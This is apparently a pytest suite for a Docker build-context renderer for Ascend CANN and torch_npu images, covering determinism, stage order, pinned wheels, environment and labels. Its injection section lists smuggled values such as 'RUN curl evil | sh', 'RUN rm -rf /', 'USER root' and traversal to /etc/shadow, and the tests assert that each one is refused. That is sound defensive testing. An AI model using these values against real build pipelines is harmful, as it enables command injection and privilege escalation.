"""Rendering of image build contexts: determinism, stages, layer order, environment, labels, injection."""

from __future__ import annotations

import re
import sys
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

sys.path.insert(0, str(Path(__file__).resolve().parents[1] / "fixtures" / "cann_installer"))

from fixture_stack import fixture_spec, standin_wheel

sys.path.insert(0, str(Path(__file__).resolve().parents[1] / "fixtures"))
from image_wheels import cann_dep_standins

from cannenv.errors import InputError, IntegrityError, NotFoundError
from cannenv.gate import LABEL_DRIVER_RANGE, LABEL_STACK
from cannenv.image import (
    LABEL_MATRIX_DIGEST,
    ImageSpec,
    InstallerRef,
    RenderOptions,
    cann_environment,
    judge_verify,
    os_profiles,
    parse_devices,
    render,
    run_args,
    scan_wheelhouse,
    spec_from_stack,
)

OPTS = RenderOptions(os="preinstalled", base_image="cannenv-test/debian:bookworm", cannenv_version="0.1.0")


def spec(**over: Any) -> ImageSpec:
    s = fixture_spec(**over)
    assert isinstance(s, ImageSpec)
    return s


def stages(dockerfile: str) -> dict[str, list[str]]:
    """Instruction lines (continuations joined) per stage name; the unnamed last stage is 'final'."""
    text = re.sub(r"\\\n\s*", " ", dockerfile)
    out: dict[str, list[str]] = {}
    current = None
    for line in text.splitlines():
        if not line.strip() or line.startswith("#"):
            continue
        if line.startswith("FROM "):
            m = re.search(r" AS (\S+)$", line)
            current = m[1] if m else "final"
            out[current] = []
        assert current is not None
        out[current].append(line)
    return out


def instructions(dockerfile: str) -> list[str]:
    return [
        ln.split()[0] for ln in re.sub(r"\\\n\s*", " ", dockerfile).splitlines() if ln and ln[0].isalpha()
    ]


# ------------------------------------------------------------------------------ determinism


def test_render_is_byte_identical_for_the_same_inputs(tmp_path: Path) -> None:
    a, b = render(spec(), OPTS), render(spec(), OPTS)
    assert a.files == b.files and a.digest == b.digest
    a.write(tmp_path / "a")
    b.write(tmp_path / "b")
    files_a = {
        p.relative_to(tmp_path / "a"): p.read_bytes() for p in (tmp_path / "a").rglob("*") if p.is_file()
    }
    files_b = {
        p.relative_to(tmp_path / "b"): p.read_bytes() for p in (tmp_path / "b").rglob("*") if p.is_file()
    }
    assert files_a == files_b


def test_digest_changes_with_any_input() -> None:
    base = render(spec(), OPTS).digest
    assert render(spec(torch_npu="2.5.1.post1"), OPTS).digest != base
    assert render(spec(driver_range=">=25.0.rc1"), OPTS).digest != base


def test_write_refuses_a_non_empty_directory(tmp_path: Path) -> None:
    (tmp_path / "x").write_text("x")
    with pytest.raises(InputError, match="not empty"):
        render(spec(), OPTS).write(tmp_path)


# ----------------------------------------------------------------------------------- stages


def test_classic_builder_only_and_installers_never_reach_the_final_stage() -> None:
    df = render(spec(), OPTS).dockerfile
    assert not df.startswith("# syntax")
    body = "\n".join(ln for ln in df.splitlines() if not ln.startswith("#"))
    assert "--mount" not in body and "<<" not in body
    st_ = stages(df)
    assert list(st_) == ["os", "cann-installer", "python", "python-top", "final"]
    final = "\n".join(st_["final"])
    assert not [ln for ln in st_["final"] if ln.startswith(("COPY", "ADD", "RUN")) and ".run" in ln]
    assert "installers/" not in final
    assert "COPY --from=cann-installer /usr/local/Ascend /usr/local/Ascend" in final
    installer = st_["cann-installer"]
    runs = [ln for ln in installer if ln.startswith("RUN bash") or ". /usr/local" in ln]
    assert all("--quiet --install --install-for-all" in ln for ln in runs)
    # toolkit, then kernels/ops, then NNAL with the toolkit's set_env.sh sourced first
    order = [re.search(r"Ascend-cann-(toolkit|kernels-910b|nnal)", ln)[1] for ln in runs]  # type: ignore[index]
    assert order == ["toolkit", "kernels-910b", "nnal"]
    assert runs[2].startswith("RUN . /usr/local/Ascend/ascend-toolkit/set_env.sh && bash")


def test_changing_only_torch_npu_keeps_every_cann_layer_identical() -> None:
    a = stages(render(spec(), OPTS).dockerfile)
    b = stages(render(spec(torch_npu="2.5.1.post1"), OPTS).dockerfile)
    assert a["os"] == b["os"] and a["cann-installer"] == b["cann-installer"]
    cut = next(i for i, ln in enumerate(a["final"]) if ln.startswith("COPY --from=python-top"))
    assert a["final"][:cut] == b["final"][:cut]  # CANN copy, CANN ENV and the base venv come first
    assert a["final"][cut - 1].startswith("COPY --from=python /opt/cannenv/venv")
    # python layers: base, torch and cannenv identical; only the python-top stage (torch_npu) differs
    assert a["python"] == b["python"]
    assert "python/torch_npu/" in a["python-top"][1]


def test_wheelhouse_layers_are_hash_pinned_and_offline(tmp_path: Path) -> None:
    wh = tmp_path / "wh"
    standin_wheel(wh, "torch", "2.5.1", "torch")
    standin_wheel(wh, "torch_npu", "2.5.1", "torch_npu")
    standin_wheel(wh, "click", "8.1.7", "click")
    deps = cann_dep_standins(wh, "8.3.RC2")
    ctx = render(spec(), RenderOptions(os="preinstalled", base_image="x/y:z", wheels=scan_wheelhouse(wh)))
    req = ctx.files["python/torch_npu/requirements.txt"].decode()
    wheel = r"/tmp/python/torch_npu/torch_npu-2\.5\.1-py3-none-any\.whl"
    assert re.fullmatch(wheel + r" --hash=sha256:[0-9a-f]{64}\n", req)
    assert "--no-index --no-deps --require-hashes" in ctx.dockerfile
    names = {r.name for r in ctx.requirements}
    assert names == {"click", "torch", "torch-npu"} | {p.name.split("-")[0].replace("_", "-") for p in deps}
    assert {"numpy", "protobuf", "scipy"} <= names
    assert all(r.hashes for r in ctx.requirements)
    assert "python/base/click-8.1.7-py3-none-any.whl" in ctx.links


def test_wheelhouse_must_hold_the_pinned_torch(tmp_path: Path) -> None:
    wh = tmp_path / "wh"
    standin_wheel(wh, "torch", "2.4.0", "torch")
    standin_wheel(wh, "torch_npu", "2.5.1", "torch_npu")
    cann_dep_standins(wh, "8.3.RC2")
    with pytest.raises(InputError, match=r"torch==2\.5\.1 \(the wheelhouse has torch-2\.4\.0"):
        render(spec(), RenderOptions(os="preinstalled", base_image="x/y:z", wheels=scan_wheelhouse(wh)))


def test_a_wheelhouse_without_cann_python_deps_is_refused_naming_them(tmp_path: Path) -> None:
    wh = tmp_path / "wh"
    standin_wheel(wh, "torch", "2.5.1", "torch")
    standin_wheel(wh, "torch_npu", "2.5.1", "torch_npu")
    cann_dep_standins(wh, "8.3.RC2")
    next(wh.glob("numpy-*.whl")).unlink()
    next(wh.glob("scipy-*.whl")).unlink()
    with pytest.raises(
        InputError, match=r"no wheel for numpy==1\.24\.0, scipy, which CANN 8\.3\.RC2 needs"
    ) as exc:
        render(spec(), RenderOptions(os="preinstalled", base_image="x/y:z", wheels=scan_wheelhouse(wh)))
    assert "cann-container-image" in exc.value.message  # the source of the pins
    assert "pip download --only-binary=:all: --no-deps -d WHEELHOUSE numpy==1.24.0 scipy" in (
        exc.value.hint or ""
    )


def test_index_mode_pins_cann_python_deps_per_cann_version() -> None:
    ctx = render(spec(), RenderOptions(os="ubuntu22.04", cannenv_version="0.1.0"))
    base = ctx.files["python/base/requirements.txt"].decode().split()
    assert "numpy==1.24.0" in base and "protobuf==3.20" in base and "scipy" in base
    ctx9 = render(spec(cann="9.0.0"), RenderOptions(os="ubuntu22.04", cannenv_version="0.1.0"))
    assert "numpy" in ctx9.files["python/base/requirements.txt"].decode().split()


def test_uid_gid_and_root_are_rendered() -> None:
    ctx = render(spec(), RenderOptions(os="preinstalled", base_image="x/y:z", uid=1234, gid=1235))
    assert "useradd -o -u 1234" in ctx.dockerfile and "groupadd -o -g 1235" in ctx.dockerfile
    assert "USER HwHiAiUser" in ctx.dockerfile and ctx.labels["cannenv.user"] == "HwHiAiUser(1234:1235)"
    root = render(spec(), RenderOptions(os="preinstalled", base_image="x/y:z", root=True))
    assert "USER root" in root.dockerfile and root.labels["cannenv.user"] == "root"
    with pytest.raises(InputError, match="--uid"):
        render(spec(), RenderOptions(os="preinstalled", base_image="x/y:z", uid=0))


def test_real_stacks_pin_cpu_torch_and_torch_npu_from_indexes() -> None:
    ctx = render(spec(), RenderOptions(os="ubuntu22.04", cannenv_version="0.1.0"))
    assert "--index-url https://download.pytorch.org/whl/cpu" in ctx.dockerfile
    assert ctx.files["python/torch/requirements.txt"] == b"torch==2.5.1\n"
    assert ctx.files["python/torch_npu/requirements.txt"] == b"torch-npu==2.5.1\n"
    assert "FROM ubuntu:22.04 AS os" in ctx.dockerfile
    assert "python3.11-venv" in ctx.dockerfile


def test_base_image_digest_from_the_matrix_is_used() -> None:
    digest = "sha256:" + "1" * 64
    ctx = render(spec(base_image_digest=digest), RenderOptions(os="ubuntu22.04"))
    assert f"FROM ubuntu:22.04@{digest} AS os" in ctx.dockerfile
    assert ctx.labels["org.opencontainers.image.base.digest"] == digest


def test_unknown_os_suggests_a_close_one() -> None:
    with pytest.raises(NotFoundError) as exc:
        render(spec(), RenderOptions(os="ubuntu22.4"))
    assert "ubuntu22.04" in (exc.value.hint or "")


# ------------------------------------------------------------------------------ environment


def env(cann: str, nnal: bool = True) -> dict[str, str]:
    return dict(cann_environment(cann, "x86_64", nnal=nnal))


def test_environment_classic_layout_matches_set_env_sh() -> None:
    e = env("8.3.RC2")
    home = "/usr/local/Ascend/ascend-toolkit/latest"
    assert e["ASCEND_TOOLKIT_HOME"] == home == e["ASCEND_HOME_PATH"] == e["ASCEND_AICPU_PATH"]
    assert e["ASCEND_OPP_PATH"] == f"{home}/opp" and e["TOOLCHAIN_HOME"] == f"{home}/toolkit"
    ld = e["LD_LIBRARY_PATH"]
    assert f"{home}/opp/built-in/op_impl/ai_core/tbe/op_tiling/lib/linux/x86_64" in ld
    assert ld.endswith("${LD_LIBRARY_PATH:+:${LD_LIBRARY_PATH}}")  # no empty entry when unset
    assert "::" not in ld and not ld.startswith(":")
    assert e["PATH"].endswith(":${PATH}") and f"{home}/bin" in e["PATH"]
    assert e["ATB_HOME_PATH"].endswith("/cxx_abi_0")


def test_environment_cann_layout_points_at_the_versioned_tree() -> None:
    e = env("8.5.0")
    assert e["ASCEND_TOOLKIT_HOME"] == "/usr/local/Ascend/cann-8.5.0" == e["ASCEND_HOME_PATH"]
    assert e["ASCEND_TOOLKIT_LATEST_HOME"] == "/usr/local/Ascend/ascend-toolkit/latest"
    assert e["CMAKE_PREFIX_PATH"].startswith("/usr/local/Ascend/cann-8.5.0/toolkit/tools/tikicpulib")
    assert e["ATB_HOME_PATH"].endswith("/cxx_abi_1")
    assert "${" not in e["ASCEND_OPP_PATH"]  # fully expanded


def test_environment_without_nnal_sets_no_atb_variables() -> None:
    assert not [k for k in env("8.3.RC2", nnal=False) if k.startswith("ATB_")]


# ----------------------------------------------------------------------------------- labels


def test_labels_carry_oci_annotations_stack_versions_digest_and_driver_range() -> None:
    s = spec()
    labels = render(s, OPTS).labels
    assert labels[LABEL_STACK] == s.stack_id
    assert labels[LABEL_MATRIX_DIGEST] == s.matrix_digest
    assert labels[LABEL_DRIVER_RANGE] == ">=24.1.rc2"
    assert labels["org.opencontainers.image.base.name"] == "cannenv-test/debian:bookworm"
    assert (
        labels["org.opencontainers.image.title"] and labels["org.opencontainers.image.version"] == s.stack_id
    )
    for name, version in s.components.items():
        assert labels[f"cannenv.component.{name}"] == version
    assert labels["cannenv.component.torch_npu"] == "2.5.1"
    assert "org.opencontainers.image.created" not in labels  # would break determinism


def test_image_json_and_env_carry_the_driver_range_for_the_gate() -> None:
    ctx = render(spec(), OPTS)
    assert b'"cannenv.requires.driver": ">=24.1.rc2"' in ctx.files["image.json"]
    assert 'CANNENV_REQUIRE_DRIVER=">=24.1.rc2"' in ctx.dockerfile
    entry = 'ENTRYPOINT ["/opt/cannenv/gate/python", "-I", "-S", "/opt/cannenv/gate/cannenv-gate", "--"]'
    assert entry in ctx.dockerfile
    assert "USER HwHiAiUser" in ctx.dockerfile and "useradd -o -u 1000" in ctx.dockerfile


# -------------------------------------------------------------------------------- injection

INJECTIONS = [
    ("stack_id", "x\nRUN curl evil | sh"),
    ("cann", "8.3.RC2\nRUN rm -rf /"),
    ("cann", '8.3.RC2" && evil "'),
    ("torch_npu", "2.5.1 --index-url http://evil"),
    ("driver_range", '>=24.1.rc2"\nUSER root'),
    ("python", "3.11 && evil"),
    ("chip", "910b\nRUN x"),
    ("components", {"driver": "24.1.rc2\nLABEL x=y"}),
    ("components", {"evil key": "1"}),
    ("installers", (InstallerRef(component="cann", version="8.3.RC2", file="a.run /etc/passwd\nRUN x.run"),)),
    ("installers", (InstallerRef(component="cann", version="8.3.RC2", file="../../etc/shadow.run"),)),
]


@pytest.mark.parametrize(("field", "value"), INJECTIONS)
def test_injection_attempts_are_refused_naming_the_field(field: str, value: object) -> None:
    with pytest.raises(InputError, match="not allowed in an image build"):
        render(spec(**{field: value}), OPTS)


@pytest.mark.parametrize(
    "ref", ["ubuntu:22.04 AS x\nRUN evil", "ubuntu:22.04 --platform=evil", "UBUNTU", "a@sha256:123", "a b"]
)
def test_bad_base_images_are_refused(ref: str) -> None:
    with pytest.raises(InputError, match="--base-image"):
        render(spec(), RenderOptions(os="preinstalled", base_image=ref))


@pytest.mark.parametrize(
    "ref",
    [
        "ubuntu:22.04",
        "quay.io/ascend/cann:8.3.rc2-910b-ubuntu22.04-py3.11",
        "localhost:5000/a/b@sha256:" + "0" * 64,
    ],
)
def test_good_base_images_are_accepted(ref: str) -> None:
    assert f"FROM {ref} AS os" in render(spec(), RenderOptions(os="preinstalled", base_image=ref)).dockerfile


BASELINE = instructions(render(spec(), OPTS).dockerfile)


@settings(max_examples=60, deadline=None)
@given(
    field=st.sampled_from(["stack_id", "cann", "torch", "torch_npu", "driver_range", "base"]),
    text=st.text(alphabet=st.characters(codec="utf-8"), min_size=1, max_size=40),
)
def test_no_value_can_add_a_dockerfile_instruction(field: str, text: str) -> None:
    """Property: any value is either refused or rendered without adding or removing instructions."""
    try:
        if field == "base":
            df = render(spec(), RenderOptions(os="preinstalled", base_image=text)).dockerfile
        else:
            df = render(spec(**{field: text, "installers": spec().installers}), OPTS).dockerfile
    except InputError:
        return
    assert instructions(df) == BASELINE


# ----------------------------------------------------------------------------- real matrix


def test_spec_from_a_shipped_stack_uses_matrix_names_and_driver_rule() -> None:
    from cannenv import matrix

    m = matrix.load()
    stack = next(s for s in m.stacks if s.family == "a2" and s.version("ops") and "x86_64" in s.arches)
    s = spec_from_stack(stack, m, arch="x86_64")
    assert s.stack_id == stack.id and s.matrix_digest == m.digest and s.chip == "910b"
    files = {i.component: i.file for i in s.installers}
    assert files["cann"] == f"Ascend-cann-toolkit_{stack.version('cann')}_linux-x86_64.run"
    req = m.driver_requirement(s.cann, "a2")
    assert s.driver_range == (req.range if req else f">={stack.version('driver')}")
    render(s, RenderOptions(os="ubuntu22.04"))  # every shipped value passes validation


def test_every_shipped_stack_renders() -> None:
    from cannenv import matrix

    m = matrix.load()
    profiles = os_profiles()
    for stack in m.stacks:
        for arch in stack.arches:
            s = spec_from_stack(stack, m, arch=arch)
            fits = [k for k, p in profiles.items() if p["pythons"] and s.python in p["pythons"]]
            assert fits, f"no OS profile provides Python {s.python} for {stack.id}"
            render(s, RenderOptions(os=fits[0]))


def test_a_profile_refuses_a_stack_whose_python_it_lacks() -> None:
    with pytest.raises(
        InputError, match=r"openeuler22\.03' cannot build stack .*needs Python 3\.11.*3\.9"
    ) as exc:
        render(spec(), RenderOptions(os="openeuler22.03"))
    assert "--os" in (exc.value.hint or "")
    render(spec(), RenderOptions(os="debian12"))  # Debian 12's python3 is 3.11


def test_every_profile_declares_its_python_and_whether_it_is_built_here() -> None:
    for name, p in os_profiles().items():
        assert "pythons" in p and isinstance(p["built_here"], bool), name
        assert p["python_source"], name


# -------------------------------------------------------------------------- run-args, verify


def test_run_args_follow_the_official_docker_run() -> None:
    flags = run_args("0,2-3")
    pairs = list(zip(flags[::2], flags[1::2], strict=True))
    devices = [v for k, v in pairs if k == "--device"]
    assert devices == [
        "/dev/davinci0",
        "/dev/davinci2",
        "/dev/davinci3",
        "/dev/davinci_manager",
        "/dev/devmm_svm",
        "/dev/hisi_hdc",
    ]
    mounts = [v for k, v in pairs if k == "-v"]
    assert "/usr/local/Ascend/driver/version.info:/usr/local/Ascend/driver/version.info:ro" in mounts
    assert "/usr/local/Ascend/driver/lib64/:/usr/local/Ascend/driver/lib64/:ro" in mounts


@pytest.mark.parametrize("bad", ["a", "1-", "3-1", "", "0;rm"])
def test_bad_device_lists_are_refused(bad: str) -> None:
    with pytest.raises(InputError, match="--devices"):
        parse_devices(bad)


def test_verify_demands_software_pass_and_device_skip() -> None:
    # The doctor's findings carry `scope`; device findings must be skip inside a device-less image.
    sw = {"id": "toolkit-ops", "status": "pass", "scope": "software"}
    ok = {"findings": [sw, {"id": "driver-installed", "status": "skip", "scope": "device"}]}
    assert judge_verify(ok).ok
    device_pass = {"findings": [sw, {"id": "npu-devices", "status": "pass", "scope": "device"}]}
    out = judge_verify(device_pass)
    assert not out.ok and "npu-devices" in out.problems[0]
    device_fail = {"findings": [sw, {"id": "driver-cann", "status": "fail", "scope": "device"}]}
    assert not judge_verify(device_fail).ok
    sw_fail = {"findings": [{"id": "torch-npu-cann", "status": "fail", "detail": "x", "scope": "software"}]}
    assert not judge_verify(sw_fail).ok
    assert not judge_verify({"findings": []}).ok
    assert judge_verify(
        {"findings": [{"id": "x", "status": "warn"}, {"id": "y", "scope": "device", "status": "skip"}]}
    ).ok


# ------------------------------------------------------------------------------------- CLI


def test_cli_render_and_lock_offline(tmp_path: Path) -> None:
    """`image render --out` twice gives identical trees; `image lock` records digests (no engine:
    the base image is pinned by digest)."""
    from click.testing import CliRunner
    from fixture_stack import matrix_yaml
    from make_fixture_installer import make_installers

    from cannenv.cli import cli
    from cannenv.lock import load_lock

    inst = make_installers(tmp_path / "art", "8.3.RC2", installed_bytes=1024, padding_bytes=1024)
    pins = {
        "cann": (inst["toolkit"].path.name, inst["toolkit"].sha256),
        "ops": (inst["kernels"].path.name, inst["kernels"].sha256),
        "nnal": (inst["nnal"].path.name, None),
    }
    (tmp_path / "m.yaml").write_text(matrix_yaml(stack_id="fixture-x", cann="8.3.RC2", installers=pins))
    base = "cannenv-test/debian@sha256:" + "0" * 64
    common = [
        "fixture-x",
        "--matrix",
        str(tmp_path / "m.yaml"),
        "--os",
        "preinstalled",
        "--base-image",
        base,
        "--artifacts",
        str(tmp_path / "art"),
        "--with-nnal",
        "--allow-unpinned",
        "--cannenv-wheel",
        str(standin_wheel(tmp_path / "w", "cannenv", "0.1.0", "cannenv_standin")),
    ]
    runner = CliRunner()
    outs = []
    for name in ("a", "b"):
        r = runner.invoke(cli, ["image", "render", *common, "--out", str(tmp_path / name)])
        assert r.exit_code == 0, r.output
        outs.append(
            {
                p.relative_to(tmp_path / name): p.read_bytes()
                for p in (tmp_path / name).rglob("*")
                if p.is_file()
            }
        )
    assert outs[0] == outs[1] and Path("installers") / inst["nnal"].path.name in outs[0]
    # offline: CANN's Python requirements are not resolved against the index (test_image_pinned.py does)
    r = runner.invoke(cli, ["image", "lock", *common, "--no-resolve", "--out", str(tmp_path / "l.json")])
    assert r.exit_code == 0, r.output
    lock = load_lock(tmp_path / "l.json")
    assert lock.stack_id == "fixture-x" and lock.base_image_digest == "sha256:" + "0" * 64
    assert {i.component: i.pinned for i in lock.installers} == {"cann": True, "ops": True, "nnal": False}
    strict = [a for a in common if a != "--allow-unpinned"]
    r = runner.invoke(cli, ["image", "render", *strict])
    assert isinstance(r.exception, IntegrityError)  # the unpinned NNAL installer is refused (exit 5)
    # NNAL left out (no --with-nnal): nothing unpinned remains, so no --allow-unpinned is needed
    r = runner.invoke(cli, ["image", "render", *[a for a in strict if a != "--with-nnal"]])
    assert r.exit_code == 0, r.output
    assert inst["nnal"].path.name not in r.stdout and "ATB_HOME_PATH" not in r.stdout
